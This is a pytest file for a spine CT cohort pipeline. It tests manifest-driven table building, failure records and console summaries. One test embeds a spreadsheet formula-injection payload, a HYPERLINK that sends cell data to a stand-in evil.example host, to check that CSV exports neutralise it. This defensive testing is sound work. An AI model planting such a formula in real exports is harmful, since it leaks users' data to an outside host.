"""The cohort table is driven by the manifest: every series ends in rows or in a failure."""

import json

import pandas as pd
import pytest

from spine_idc import layout
from spine_idc.errors import InvalidSeriesError, SpineIdcError
from spine_idc.manifest import ManifestRow, write_manifest
from spine_idc.outcome import Failure, write_failure
from spine_idc.pipeline.cohort import write_cohort


def _row(key):
    return ManifestRow(key, key, "1.2.3", "P", "CT", "", 20, "local", "x.files")


def _measurement(level, value):
    return {"level": level, "label_value": value, "voxel_count": 10, "volume_ml": 30.0,
            "trabecular_mean_hu": 180.0, "trabecular_median_hu": 178.0, "trabecular_voxels": 500,
            "centroid_lps_mm": [1.0, 2.0, 3.0], "body_height_anterior_mm": 25.0,
            "body_height_middle_mm": 24.0, "body_height_posterior_mm": 26.0,
            "height_ratio": 0.92, "touches_border": False}


def test_rows_and_failures(tmp_path):
    ok, bad_convert, bad_segment = "1.2.3.1", "1.2.3.2", "1.2.3.3"
    write_manifest([_row(ok), _row(bad_convert), _row(bad_segment)], tmp_path / "m.tsv")
    layout.path("convert", ok, tmp_path).mkdir(parents=True)
    layout.path("segment", ok, tmp_path).mkdir(parents=True)
    record = {"series_key": ok, "series_instance_uid": ok, "study_instance_uid": "1.2.3",
              "measurements": [_measurement("L1", 20), _measurement("L2", 21),
                               _measurement("L3", 22)],
              # L3's name is less sure than the cut-off (counted far from its anchor)
              "qc": {"flags": {"21": ["implausible-size"]}, "confidence": 0.9,
                     "vertebrae": [{"label": 22, "confidence": 0.4}]}}
    measured = layout.path("measure", ok, tmp_path)
    measured.parent.mkdir(parents=True)
    measured.write_text(json.dumps(record))
    err = InvalidSeriesError(bad_convert, "missing-slices", "2 slices missing", path="a.dcm")
    write_failure(layout.path("segment", bad_convert, tmp_path), Failure.from_error("convert", err))
    layout.path("convert", bad_segment, tmp_path).mkdir(parents=True)
    err = InvalidSeriesError(bad_segment, "no-spine", "no vertebra found")
    write_failure(layout.path("segment", bad_segment, tmp_path), Failure.from_error("segment", err))

    out = tmp_path / "cohort"
    n, failed = write_cohort(tmp_path / "m.tsv", out / "m.parquet", out / "m.csv", out / "f.csv",
                             root=tmp_path)
    assert (n, failed) == (3, 2)
    table = pd.read_parquet(out / "m.parquet")
    assert list(table["level"]) == ["L1", "L2", "L3"]
    assert list(table["qc_flags"]) == ["", "implausible-size", ""]
    assert list(table["name_confidence"]) == [0.9, 0.9, 0.4]
    assert list(table["qc_pass"]) == [True, False, False]
    assert table["seg_path"].iloc[0] == f"results/series/{ok}/seg.dcm"
    fails = pd.read_csv(out / "f.csv", dtype=str).set_index("series_key")
    assert fails.loc[bad_convert, "reason"] == "missing-slices"
    assert fails.loc[bad_convert, "stage"] == "convert"
    assert fails.loc[bad_convert, "path"] == "a.dcm"
    assert fails.loc[bad_segment, "stage"] == "segment"
    assert pd.read_csv(out / "m.csv").shape[0] == 3


def test_series_without_outcome_is_an_error(tmp_path):
    write_manifest([_row("1.2.3.1")], tmp_path / "m.tsv")
    with pytest.raises(SpineIdcError, match="neither measurements nor a failure"):
        write_cohort(tmp_path / "m.tsv", tmp_path / "a.parquet", tmp_path / "a.csv",
                     tmp_path / "f.csv", root=tmp_path)


def test_csv_cells_cannot_be_formulas(tmp_path):
    """A PatientID (or a failure message) from the data that starts like a formula is written
    to the CSV copies with a leading apostrophe; the parquet keeps the value."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    ok, bad = "1.2.3.1", "1.2.3.2"
    rows = [ManifestRow(k, k, "1.2.3", formula, "CT", "", 20, "local", "x.files") for k in (ok, bad)]
    write_manifest(rows, tmp_path / "m.tsv")
    measured = layout.path("measure", ok, tmp_path)
    measured.parent.mkdir(parents=True)
    measured.write_text(json.dumps({"series_key": ok, "measurements": [_measurement("L1", 20)],
                                    "qc": {"confidence": 0.9}}))
    err = InvalidSeriesError(bad, "no-spine", "-1+1 vertebrae @ nowhere")
    write_failure(layout.path("segment", bad, tmp_path), Failure.from_error("segment", err))
    out = tmp_path / "cohort"
    write_cohort(tmp_path / "m.tsv", out / "m.parquet", out / "m.csv", out / "f.csv",
                 root=tmp_path)
    table = pd.read_csv(out / "m.csv", dtype=str)
    assert table["patient_id"].iloc[0] == "'" + formula
    assert table["volume_ml"].iloc[0] == "30.0"  # numbers untouched
    fails = pd.read_csv(out / "f.csv", dtype=str)
    assert fails["patient_id"].iloc[0] == "'" + formula
    assert fails["message"].iloc[0] == "'-1+1 vertebrae @ nowhere"
    assert pd.read_parquet(out / "m.parquet")["patient_id"].iloc[0] == formula


def test_the_run_ends_with_a_summary_and_one_line_failures(tmp_path, capsys):
    """The cohort step used to say nothing on the console about failed series, and a message
    with a traceback spread over many lines of failures.csv."""
    from spine_idc.cli import main

    ok, bad, worse = "1.2.3.1", "1.2.3.2", "1.2.3.3"
    write_manifest([_row(ok), _row(bad), _row(worse)], tmp_path / "m.tsv")
    layout.path("segment", ok, tmp_path).mkdir(parents=True)
    measured = layout.path("measure", ok, tmp_path)
    measured.parent.mkdir(parents=True)
    measured.write_text(json.dumps({"measurements": [_measurement("L1", 20)], "qc": {}}))
    err = InvalidSeriesError(bad, "convert-error", "unexpected ValueError: boom\nTraceback (most recent call last):\n  x")
    write_failure(layout.path("segment", bad, tmp_path), Failure.from_error("convert", err))
    err = InvalidSeriesError(worse, "no-spine", "no vertebra found")
    write_failure(layout.path("segment", worse, tmp_path), Failure.from_error("segment", err))
    out = tmp_path / "cohort"
    assert main(["cohort", "--manifest", str(tmp_path / "m.tsv"), "--root", str(tmp_path),
                 "--parquet", str(out / "m.parquet"), "--csv", str(out / "m.csv"),
                 "--failures", str(out / "f.csv")]) == 0
    said = capsys.readouterr().out
    assert "3 series: 1 measured, 2 failed" in said and str(out / "m.csv") in said
    assert "convert-error (convert) x1" in said and "no-spine (segment) x1" in said
    assert str(out / "f.csv") in said
    lines = (out / "f.csv").read_text().splitlines()
    assert len(lines) == 3 and "unexpected ValueError: boom Traceback (most recent call last): x" in lines[1]


def test_check_failures_writes_its_marker_only_when_no_series_failed(tmp_path, caplog):
    """fail_on_series_errors' step: exit 1 and one line when a series failed (the workflow test
    runs it on a real run), exit 0 and the marker when none did."""
    from spine_idc.cli import main

    ok = "1.2.3.1"
    write_manifest([_row(ok)], tmp_path / "m.tsv")
    failures, marker = tmp_path / "f.csv", tmp_path / "done.json"
    pd.DataFrame(columns=["series_key", "stage", "reason"]).to_csv(failures, index=False)
    args = ["check-failures", "--manifest", str(tmp_path / "m.tsv"), "--failures", str(failures),
            "--out", str(marker)]
    assert main(args) == 0
    assert json.loads(marker.read_text()) == {"series": 1, "failed": 0}
    marker.unlink()
    pd.DataFrame([{"series_key": ok, "stage": "convert", "reason": "not-ct"}]).to_csv(failures, index=False)
    assert main(args) == 1
    assert not marker.exists()
    said = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(said) == 1 and "1 of 1 series failed and fail_on_series_errors is set" in said[0]
    assert "\n" not in said[0]
